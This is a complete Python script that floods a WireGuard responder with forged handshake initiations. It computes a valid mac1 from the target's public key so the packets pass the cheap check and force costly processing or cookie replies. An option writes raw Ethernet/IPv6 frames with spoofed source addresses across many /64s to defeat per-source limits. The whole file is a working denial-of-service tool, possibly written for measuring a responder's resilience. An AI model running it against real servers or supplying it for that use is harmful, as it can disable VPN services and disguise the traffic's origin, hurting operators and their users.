#!/usr/bin/env python3
"""Floods a WireGuard responder with handshake initiations that carry a VALID
mac1 for its public key (so they pass the cheap check and cost it work or a
cookie reply) and random everything else (so no handshake ever completes).

usage: flood_initiations.py DST_IP DST_PORT RESPONDER_PUBKEY_BASE64 SECONDS
           [--spoof-v6 PREFIX --sources N --dev IFNAME --dst-mac MAC]
           [--junk-mac1]

Message layout (whitepaper §5.4.2): type 1, 3 reserved zero bytes, sender
index (4), ephemeral (32), encrypted static (48), encrypted timestamp (28),
mac1 (16), mac2 (16) = 148 bytes. mac1 = BLAKE2s-128 keyed with
BLAKE2s-256("mac1----" || responder public key) over the first 116 bytes;
mac2 stays zero (we never have a cookie). With --junk-mac1 the mac1 is random
instead: what a sender who does not know the responder's key can send, and
the responder rejects after one MAC.

By default the initiations leave from an ordinary UDP socket (one source).
With --spoof-v6 PREFIX (an IPv6 /32, e.g. 2001:db8::) and --sources N, they
are written as whole Ethernet/IPv6/UDP frames to a raw packet socket on
IFNAME (--dev), addressed to the responder's MAC (--dst-mac), with forged
source addresses: N distinct /64s of PREFIX (PREFIX:i:j::1), taken in turn,
so each message comes from the next /64. (A packet socket skips routing: it
sends about twice as fast as a raw IPv6 socket.) DST_IP must then be IPv6
and the responder must route PREFIX back towards us (its replies are
dropped here).

Prints start_epoch=<unix time> when it begins to send (packets are built
first), sends precomputed packets in a loop, as fast as one core allows, for
SECONDS; then prints what it sent and end_epoch=<unix time when it stopped>.
"""
import argparse
import base64
import hashlib
import ipaddress
import os
import socket
import struct
import sys
import time

BATCH = 4096


def initiation(mac1_key: bytes, junk: bool = False) -> bytes:
    body = b"\x01\x00\x00\x00" + os.urandom(4 + 32 + 48 + 28)
    assert len(body) == 116
    mac1 = os.urandom(16) if junk else hashlib.blake2s(body, digest_size=16, key=mac1_key).digest()
    return body + mac1 + bytes(16)


def ones_sum(data: bytes) -> int:
    """The one's-complement sum of 16-bit big-endian words, not yet folded."""
    if len(data) % 2:
        data += b"\x00"
    return sum(struct.unpack("!%dH" % (len(data) // 2), data))


def fold(s: int) -> int:
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return s


def spoofed_packets(prefix: str, sources: int, dst: str, port: int, messages: list) -> list:
    """IPv6/UDP packets, one per source /64, cycling through `messages`. The
    UDP checksum is linear in the words: the source's part is added to a
    precomputed sum over everything else."""
    base = ipaddress.IPv6Address(prefix).packed[:4]
    dst_b = ipaddress.IPv6Address(dst).packed
    src_port = 40000
    udp_len = 8 + len(messages[0])
    fixed = []  # per message: sum over pseudo-header (without source), header, payload
    for m in messages:
        udp_hdr = struct.pack("!HHHH", src_port, port, udp_len, 0)
        fixed.append(ones_sum(dst_b) + udp_len + 17 + ones_sum(udp_hdr) + ones_sum(m))
    packets = []
    for i in range(sources):
        src_b = base + struct.pack("!I", i) + b"\x00" * 7 + b"\x01"
        k = i % len(messages)
        csum = (~fold(fixed[k] + ones_sum(src_b))) & 0xFFFF or 0xFFFF
        ip_hdr = struct.pack("!IHBB", 0x60000000, udp_len, 17, 64) + src_b + dst_b
        udp_hdr = struct.pack("!HHHH", src_port, port, udp_len, csum)
        packets.append(ip_hdr + udp_hdr + messages[k])
    return packets


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("dst")
    ap.add_argument("port", type=int)
    ap.add_argument("pubkey")
    ap.add_argument("seconds", type=float)
    ap.add_argument("--spoof-v6", metavar="PREFIX")
    ap.add_argument("--sources", type=int, default=1)
    ap.add_argument("--dev")
    ap.add_argument("--dst-mac")
    ap.add_argument("--junk-mac1", action="store_true")
    args = ap.parse_args()
    pub = base64.b64decode(args.pubkey)
    assert len(pub) == 32, "public key must be 32 bytes"
    mac1_key = hashlib.blake2s(b"mac1----" + pub).digest()
    messages = [initiation(mac1_key, args.junk_mac1) for _ in range(BATCH)]

    if args.spoof_v6:
        assert args.dev and args.dst_mac, "--spoof-v6 needs --dev and --dst-mac"
        s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        s.bind((args.dev, 0))
        ethernet = bytes.fromhex(args.dst_mac.replace(":", "")) + s.getsockname()[4] + b"\x86\xdd"
        packets = [ethernet + p for p in spoofed_packets(args.spoof_v6, args.sources, args.dst, args.port, messages)]
        send = s.send
        what = f"spoofed from {args.sources} /64s of {args.spoof_v6}/32"
    else:
        packets = messages
        fam = socket.AF_INET6 if ":" in args.dst else socket.AF_INET
        s = socket.socket(fam, socket.SOCK_DGRAM)
        s.connect((args.dst, args.port))
        send = s.send
        what = "from one source"
    if args.junk_mac1:
        what += ", with a junk mac1"
    sent = errors = 0
    print(f"start_epoch={time.time():.3f}", flush=True)
    start = time.monotonic()
    deadline = start + args.seconds
    n = len(packets)
    i = 0
    while time.monotonic() < deadline:
        for p in packets[i : i + 512]:
            try:
                send(p)
                sent += 1
            except OSError:  # ENOBUFS / ECONNREFUSED under pressure: keep going
                errors += 1
        i = i + 512 if i + 512 < n else 0
    elapsed = time.monotonic() - start
    print(f"sent {sent} initiations {what} in {elapsed:.1f} s ({sent / elapsed:.0f}/s), {errors} send errors")
    print(f"end_epoch={time.time():.3f}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
